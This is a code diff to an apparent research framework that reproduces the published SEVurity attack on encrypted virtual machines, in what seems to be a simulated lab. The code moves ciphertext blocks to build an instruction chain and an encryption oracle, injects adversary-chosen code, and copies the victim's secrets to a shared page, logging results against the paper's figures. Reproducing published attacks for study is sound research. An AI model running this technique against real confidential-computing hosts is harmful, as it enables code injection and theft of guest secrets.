@@ -3,124 +3,83 @@
 from __future__ import annotations
 
 import struct
-from collections.abc import Callable
 from typing import Final
 
-from cbit.attacks.experiments.known_constants import DEFENCES, EXPECT, PARAMETERS, SETUP, SETUPS, kernel
+from cbit.attacks.experiments.code_injection import HOLDS, PAYLOAD, booting, wait_for
+from cbit.attacks.experiments.known_constants import DEFENCES, EXPECT, PARAMETERS, SETUP, SETUPS
+from cbit.attacks.experiments.two_bytes import (
+    LONGEST_NUMBER,
+    PAIR,
+    PUSH,
+    PUSH_SYNC,
+    Whole,
+    Writer,
+    number,
+)
+from cbit.attacks.lab.assemble import assemble
 from cbit.attacks.lab.attack import attack
 from cbit.attacks.lab.corpus import Corpus, difference, xor
-from cbit.attacks.lab.guest import HLT, NPF, SECRET, SHARED, VIEW, Program
 from cbit.attacks.lab.hands import Hands
 from cbit.attacks.lab.log import Log
-from cbit.attacks.lab.scene import Facts, Scene
-from cbit.attacks.lab.stand import Stand
-from cbit.attacks.lab.tools import Thwarted, gpa_of
-from cbit.attacks.power import Power
-from cbit.cpu.engine.control_block import Exit
+from cbit.attacks.lab.scene import Facts
+from cbit.attacks.lab.tools import Thwarted
+from cbit.guest.builtin.interface import SHOWN
 from cbit.spec.address import BLOCK, PAGE
 
-ROUTINE, KERNEL = 0x12000, 0x200000
-_ROOM: Final = 2 * PAGE  # of the routine
-_SECRET_SIZE: Final = 64
-MARK = SECRET + _SECRET_SIZE  #: where chosen bytes are to appear
-CHOSEN = 0x5EC0DE42
-
-#: Calls a long routine again and again, and never touches its secret.
-CALLER = f"""
-again:
-    call routine
-    jmp again
-.org {ROUTINE - 0x10000:#x}, 0x90
-routine:
-    .fill {_ROOM - 2}, 1, 0x90
-    hlt
-    ret
-"""
-_SKIP: Final = {b"\xeb\x1c": 1, b"\xeb\x3c": 2}  # to the end of the next block but 0, or but 2
-_XOR: Final = {"esi": b"\x31\xf6", "edi": b"\x31\xff", "ecx": b"\x31\xc9"}
-_SHL: Final = {"esi": b"\xd1\xe6", "edi": b"\xd1\xe7", "ecx": b"\xd1\xe1"}
-_INC: Final = {"esi": b"\xff\xc6", "edi": b"\xff\xc7", "ecx": b"\xff\xc1"}
-_PUSH_SYNC, _PUSH, _POP, _POP_RET = b"\x57\xf4", b"\x57\x90", b"\x5f\x90", b"\x5f\xc3"
-_WRITE, _WALK = 1 << 1, 1 << 33  # in EXITINFO1
-_COPY, _SYNC = b"\xf3\xa4", b"\xf4\x90"
-
-
-def caller(stand: Stand) -> Scene:
-    """Start a victim with a large public image and a routine that is called again and again."""
-    secret = stand.entropy.draw(_SECRET_SIZE)
-    known = kernel(stand)
-    program = Program(CALLER, data=((KERNEL, known),), size=KERNEL + len(known))
-    guest = stand.guest(program, secret=secret)
-    guest.until_idle()
-    facts = Facts({"kernel_at": KERNEL, "kernel": known, "routine": ROUTINE})
-    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, _SECRET_SIZE) == secret)
-
-
-def _number(register: str, value: int) -> list[bytes]:
-    """Build a number in a register, bit by bit from the highest on: one round for each bit below it."""
-    built = [_XOR[register]]
-    for bit in f"{value:b}":
-        built += [_SHL[register], _INC[register]] if bit == "1" else [_SHL[register]]
-    del built[1]  # zero need not be shifted
-    return built
+#: Of three bytes, with a jump whose distance is the byte behind it.
+_BSWAP_RDI, _OR_RDI_RSI = b"\x48\x0f\xcf\xeb", b"\x48\x09\xf7\xeb"
+_JUMPS_FROM: Final = 5  # in the block
+_DEEPEST: Final = 8  # blocks of the stack that may hold an encrypted instruction
 
 
 @attack(
     title="SEVurity: code out of two bytes a block",
     experiment="E6",
     paper="Wilke et al., SEVurity, S&P 2020 (attacks.md A10, case 3)",
-    holds={
-        Power.MAP_MEMORY,
-        Power.FLUSH_CACHES,
-        Power.EDIT_NESTED_TABLES,
-        Power.TAKE_EXITS,
-        Power.CLIENT,
-    },
+    holds=HOLDS,
     expect=EXPECT,
     defences=DEFENCES,
-    victim=caller,
+    victim=booting,
     setup=SETUP,
     setups=SETUPS,
     parameters=PARAMETERS,
 )
 def code_chain(hands: Hands, facts: Facts, log: Log) -> bytes:
-    """Write a program of two-byte instructions over a routine, out of moved blocks; no answer is emulated.
+    """Write programs of two-byte instructions over the victim's code; with them, write any code at all.
 
-    1. Every second block ends with an instruction, the others begin with a jump to the end of the next one:
-       two chosen bytes in a block are enough for both.
+    1. Blocks are moved: every second one ends with an instruction, the others begin with a jump to the end of
+       the next one.  Two chosen bytes in a block are enough for both.
     2. ``push rdi; hlt``: the page that faults at the push is the stack, and the block of it whose ciphertext
        changes is where rSP points.  Neither registers nor emulated results are used.
-    3. ``xor``, ``inc`` and ``shl`` build any number in edi, ``push`` encrypts it: an oracle for four bytes.
-    4. The same instructions build two addresses and a length, and ``rep movsb`` copies the secret out.
+    3. ``xor``, ``inc`` and ``shl`` build any number of 32 bits in edi, ``push`` encrypts it: an oracle for
+       four bytes.
+    4. Four bytes are an instruction with a REX prefix and the opcode of a jump.  Its distance is what the
+       tweaks make of a zero, so it has to stand where that is useful.  ``bswap rdi`` and ``or rdi, rsi``
+       make a number of 64 bits of two of 32, and two pushes encrypt it: an oracle for sixteen bytes.
+    5. What it has encrypted is code of the adversary's choice, and copies the secrets to a shared page.
     """
-    writer = _Writer(hands, facts)
-    stack = _find_stack(hands, writer, log)
-    number = _number("edi", CHOSEN)
-    # The return address fills half a block: one push for the other half, two for a block of their own.
-    writer.ready([*number, _PUSH, _PUSH, _PUSH_SYNC, _POP, _POP, _POP_RET])
-    writer.go()
-    oracle = stack - BLOCK
-    cells = hands.memory.read(oracle, BLOCK)
-    log.step(f"{len(number)} instructions and three pushes: the ciphertext of {CHOSEN:#x}, twice", cells)
+    start = facts.number("routine") + BLOCK
+    wait_for(hands, start & -PAGE, log)
+    corpus = Corpus(hands.memory, facts.number("kernel_at"), facts.data("kernel"), xe=False)
+    writer = Writer(hands, corpus, start)
+    writer.find_stack(log)
+    oracle = _Oracle(hands, writer, log)
+    code = assemble(PAYLOAD, writer.first)
+    code += bytes(-len(code) % BLOCK)
+    before, program = writer.moved, []
+    for at in range(0, len(code), BLOCK):
+        program.append(oracle.encrypt(code[at : at + BLOCK], writer.first + at))
+        log.step(f"block {at // BLOCK}: ciphertext of the adversary's code", program[-1].cells)
+    moved = (writer.moved - before) // len(program)
+    writer.run(program, pushed=0)
+    loot = hands.service.shared(SHOWN, PAGE)
+    log.step("the victim has run that code", loot)
     log.figure(
-        "rounds for a number of 32 bits",
-        CHOSEN.bit_length() - 1,
+        "rounds for a number of 32 bits, at most",
+        oracle.rounds,
         published="at most 31",
         source="SEVurity §VI-C (attacks.md A10 step 7)",
     )
-    mark = hands.memory.spa(MARK)
-    hands.memory.write(mark, xor(cells, difference(oracle, mark)))
-    out = VIEW + SHARED + PAGE
-    copied = _SECRET_SIZE + BLOCK
-    program = [*_number("esi", SECRET), *_number("edi", out), *_number("ecx", copied), _COPY, _SYNC]
-    writer.ready(program)
-    writer.go()
-    answer = hands.client.answer(copied)
-    log.step(f"{len(program)} instructions later the secret is in shared memory", answer)
-    known = xor(answer[_SECRET_SIZE:], difference(oracle, mark))
-    log.step("behind it the block that was chosen, corrected by the difference of the tweaks", known)
-    if known != struct.pack("<2Q", CHOSEN, CHOSEN):
-        raise Thwarted("the chosen block decrypts to something else")
     log.figure(
         "useful bytes of every second block",
         2,
@@ -128,97 +87,70 @@ def code_chain(hands: Hands, facts: Facts, log: Log) -> bytes:
         published="2",
         source="SEVurity §IV-D, Fig. 3 (attacks.md A10 step 4)",
     )
-    log.figure("blocks moved", writer.moved, published="no figure")
-    return answer
+    log.figure(
+        "blocks moved for each chosen block of 16 bytes",
+        moved,
+        published="no figure (1000 blocks in 75.86 s, after 0.62 s)",
+        source="SEVurity §VI-D (attacks.md A10 step 7)",
+    )
+    log.figure("blocks moved in all", writer.moved, published="no figure")
+    return loot
 
 
-class _Writer:
-    """Writes programs over the routine, and runs them.
+class _Oracle:
+    """Lets the victim encrypt.
 
     Mutable.
 
     Attributes:
-        moved: how many blocks it has put in place.
+        rounds: the most that a number of 32 bits has taken.
     """
 
-    def __init__(self, hands: Hands, facts: Facts) -> None:
-        self._hands, self._start = hands, facts.number("routine")
-        kernel = facts.data("kernel")
-        self._corpus = Corpus(hands.memory, facts.number("kernel_at"), kernel, xe=False)
-        self._running = False
-        self.moved = 0
+    def __init__(self, hands: Hands, writer: Writer, log: Log) -> None:
+        """Find places for the four long instructions that sixteen bytes take, and have them encrypted."""
+        self._hands, self._writer = hands, writer
+        self.rounds = 0
+        at, self._long = writer.first + PAIR, list[Whole]()
+        for instruction in (_BSWAP_RDI, _OR_RDI_RSI) * 2:
+            self._long.append(self._placed(instruction, at + LONGEST_NUMBER))
+            at = self._long[-1].then + PAIR * (instruction == _OR_RDI_RSI)
+        log.step(
+            "four bytes at a time: `bswap rdi` and `or rdi, rsi`, twice, are encrypted for "
+            + ", ".join(f"{whole.at:#x}" for whole in self._long),
+            b"".join(whole.cells for whole in self._long),
+        )
 
-    def _write(self, program: list[bytes]) -> None:
-        self._hands.caches.write_back()
-        at, left = self._start, list(program)
-        while left:
-            if at > self._start + _ROOM - 4 * BLOCK:
-                raise Thwarted("the routine has no room for the program")
-            for jump, blocks in _SKIP.items():
-                end = at + (2 * blocks - 1) * BLOCK
-                if self._put(jump, at, 0) and self._put(left[0], end, BLOCK - 2):
-                    left.pop(0)
-                    at = end + BLOCK
-                    break
-            else:
-                raise Thwarted(f"no block of the known plaintext serves at {at:#x}")
-        self._hands.caches.write_back()
+    def _placed(self, instruction: bytes, earliest: int) -> Whole:
+        """Find a place where what follows an instruction jumps to a block's beginning."""
+        for at in range(earliest, earliest + 64 * PAIR, PAIR):
+            for depth in range(1, _DEEPEST + 1):
+                source, target = self._writer.stack - BLOCK * depth, self._hands.memory.spa(at)
+                change = difference(source, target)
+                (distance,) = struct.unpack_from("b", change, len(instruction))
+                if distance > 0 and (_JUMPS_FROM + distance) % BLOCK == 0:
+                    (word,) = struct.unpack("<I", xor(instruction, change[: len(instruction)]))
+                    return Whole(self._four(word, depth), source, at, at + _JUMPS_FROM + distance)
+        raise Thwarted("no place for an instruction of three bytes")
 
-    def _put(self, wanted: bytes, gpa: int, at: int) -> bool:
-        target = self._hands.memory.spa(gpa)
-        found = self._corpus.find(wanted, target, at)
-        if found is not None:
-            self._hands.memory.write(target, self._corpus.ciphertext_for(found, target))
-            self.moved += 1
-        return found is not None
+    def _built(self, register: str, value: int) -> list[bytes]:
+        self.rounds = max(self.rounds, value.bit_length() - 1)
+        return number(register, value)
 
-    def ready(self, program: list[bytes]) -> None:
-        """Put a program in place, its beginning a `hlt`, and bring the victim there.
+    def _four(self, word: int, depth: int) -> bytes:
+        """Encrypt four bytes, four zeros, and the same again, so many blocks below the top of the stack."""
+        # The return address fills half a block: one push for the other half, two for each block below.
+        pushes = 1 + 2 * depth
+        self._writer.run([*self._built("edi", word), *[PUSH] * (pushes - 1), PUSH_SYNC], pushed=pushes)
+        return self._hands.memory.read(self._writer.stack - BLOCK * depth, BLOCK)
 
-        The victim stands in that `hlt` whenever its code is replaced, so all programs begin alike.
-        """
-        if self._running:
-            self._hands.victim.skip(1)
-            self._hands.victim.until(HLT)
-        self._write([_SYNC, *program])
-        if not self._running:
-            self._hands.victim.until(HLT)
-        self._running = True
-
-    def go(self, handle: Callable[[Exit], bool] = lambda _: False) -> None:
-        """Let the victim run from there to its next `hlt`."""
-        self._hands.victim.skip(1)
-        self._hands.victim.until(HLT, handle=handle)
-        self._hands.caches.write_back()
-
-
-def _find_stack(hands: Hands, writer: _Writer, log: Log) -> int:
-    """Let the victim push: its stack faults, and a block of it changes.  Returns that block's address."""
-    writer.ready([_INC["edi"], _PUSH_SYNC, _POP_RET])  # not the zero that may be there already
-    hands.caches.write_back()
-    pages = [gpa for gpa in hands.tables.pages() if gpa < KERNEL]
-    before = {gpa: hands.memory.read(hands.memory.spa(gpa), PAGE) for gpa in pages}
-    hands.tables.unmap(*pages)
-    touched: list[int] = []
-
-    def note(exit: Exit) -> bool:
-        if exit.code != NPF:
-            return False
-        gpa = gpa_of(exit.info_2) & -PAGE
-        if exit.info_1 & _WRITE and not exit.info_1 & _WALK:
-            touched.append(gpa)
-        hands.tables.home(gpa)
-        return True
-
-    writer.go(note)
-    for gpa in pages:
-        hands.tables.home(gpa)
-    for gpa in dict.fromkeys(touched):
-        after = hands.memory.read(hands.memory.spa(gpa), PAGE)
-        changed = [
-            at for at in range(0, PAGE, BLOCK) if after[at : at + BLOCK] != before[gpa][at : at + BLOCK]
-        ]
-        if changed:
-            log.step(f"`push rdi` faults on {gpa:#x}, and a block changes at {changed[-1]:#x} there")
-            return hands.memory.spa(gpa) + changed[-1]
-    raise Thwarted("no page was pushed to")
+    def encrypt(self, block: bytes, at: int) -> Whole:
+        """Encrypt sixteen bytes that are to stand at a guest physical address."""
+        source, target = self._writer.stack - BLOCK, self._hands.memory.spa(at)
+        low, high = struct.unpack("<2Q", xor(block, difference(source, target)))
+        program: list[bytes | Whole] = [PUSH]
+        for value, (swap, join), push in ((high, self._long[:2], PUSH), (low, self._long[2:], PUSH_SYNC)):
+            swapped = int.from_bytes((value >> 32).to_bytes(4, "little"), "big")
+            lower = value & 0xFFFF_FFFF
+            program += [*self._built("edi", swapped), swap, *self._built("esi", lower), join, push]
+        self._writer.run(program, pushed=3)
+        return Whole(self._hands.memory.read(source, BLOCK), source, at, at + BLOCK)
